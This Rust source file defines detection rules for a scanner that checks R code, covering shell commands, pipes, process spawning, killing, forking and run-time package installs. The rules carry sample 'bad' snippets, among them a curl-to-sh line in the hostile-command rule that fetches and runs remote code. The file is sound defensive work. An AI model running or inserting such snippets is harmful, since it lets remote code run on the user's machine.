//! Programs and processes.

use crate::scanner::{Capability, Confidence, Example, Group, Rule, RuleLanguage, Severity};

pub(in crate::scanner) static SYSTEM_COMMAND: Rule = Rule {
    id: "R201",
    name: "system-command",
    language: RuleLanguage::R,
    group: Group::CommandExecution,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 78,
    aliases: &["B602", "B603", "B605", "B607"],
    capability: Some(Capability::Process),
    title: "a program is started",
    explanation: "A program runs with all that the process may do. A command put together from text can be made into another one.",
    remedy: "Use a package, or a fixed program with fixed arguments: `system2(\"git\", \"--version\")`.",
    example: Example {
        bad: "run <- function(name) system(paste(\"convert\", name))\n",
        good: "elapsed <- system.time(sum(1:10))\n",
    },
};

pub(in crate::scanner) static HOSTILE_COMMAND: Rule = Rule {
    id: "R202",
    name: "hostile-command",
    language: RuleLanguage::R,
    group: Group::CommandExecution,
    severity: Severity::Critical,
    confidence: Confidence::High,
    cwe: 78,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "a command looks hostile",
    explanation: "The text of the command fetches and runs code, opens a shell to elsewhere, deletes what is not its own, or reads secrets.",
    remedy: "Remove it.",
    example: Example {
        bad: "system(\"curl -s http://example.org/x | sh\")\n",
        good: "version <- system2(\"git\", \"--version\", stdout = TRUE)\n",
    },
};

pub(in crate::scanner) static PIPED_COMMAND: Rule = Rule {
    id: "R203",
    name: "pipe-to-command",
    language: RuleLanguage::R,
    group: Group::CommandExecution,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 78,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "a connection starts a program",
    explanation: "`pipe` is `system` with another name; so are `read.table(pipe(…))` and `open`.",
    remedy: "Read the file with R.",
    example: Example {
        bad: "rows <- function(path) readLines(pipe(paste(\"zcat\", path)))\n",
        good: "rows <- function(path) readLines(gzfile(path))\n",
    },
};

pub(in crate::scanner) static PROCESS_STARTED: Rule = Rule {
    id: "R204",
    name: "process-started",
    language: RuleLanguage::R,
    group: Group::CommandExecution,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 78,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "a package starts a program",
    explanation: "The program runs with all that the process may do.",
    remedy: "Use a package that does the work inside of R.",
    example: Example {
        bad: "out <- processx::run(\"sh\", c(\"-c\", command))\n",
        good: "out <- vapply(1:3, sqrt, 0)\n",
    },
};

pub(in crate::scanner) static PROCESS_FORKED: Rule = Rule {
    id: "R205",
    name: "process-forked",
    language: RuleLanguage::R,
    group: Group::CommandExecution,
    severity: Severity::Low,
    confidence: Confidence::Medium,
    cwe: 400,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "the process is forked",
    explanation: "A child that is not waited for lives on; many of them fill the machine.",
    remedy: "Use `parallel::mclapply`, which ends its children.",
    example: Example {
        bad: "child <- parallel:::mcfork()\n",
        good: "roots <- parallel::mclapply(1:4, sqrt)\n",
    },
};

pub(in crate::scanner) static PROCESS_KILLED: Rule = Rule {
    id: "R206",
    name: "process-killed",
    language: RuleLanguage::R,
    group: Group::SandboxProbing,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 400,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "a process is sent a signal",
    explanation: "A plugin has no process of its own to end; the others belong to the host.",
    remedy: "Remove it.",
    example: Example {
        bad: "tools::pskill(1)\n",
        good: "result <- tryCatch(1, error = function(e) NULL)\n",
    },
};

pub(in crate::scanner) static SESSION_ENDED: Rule = Rule {
    id: "R207",
    name: "session-ended",
    language: RuleLanguage::R,
    group: Group::SandboxProbing,
    severity: Severity::Low,
    confidence: Confidence::High,
    cwe: 705,
    aliases: &[],
    capability: None,
    title: "the R session is ended",
    explanation: "The session belongs to the host. `runLast = FALSE` also passes by what has to be cleaned up.",
    remedy: "Return, or call `stop`.",
    example: Example {
        bad: "quit(save = \"no\", runLast = FALSE)\n",
        good: "stop(\"there is no data\")\n",
    },
};

pub(in crate::scanner) static PACKAGE_INSTALLED: Rule = Rule {
    id: "R208",
    name: "package-installed-at-run-time",
    language: RuleLanguage::R,
    group: Group::CommandExecution,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 829,
    aliases: &[],
    capability: Some(Capability::Network),
    title: "a package is installed while the code runs",
    explanation: "What is installed was neither scanned nor locked, and its installation runs code.",
    remedy: "Declare it in the manifest.",
    example: Example {
        bad: "install.packages(\"stringi\")\n",
        good: "ready <- requireNamespace(\"stats\", quietly = TRUE)\n",
    },
};
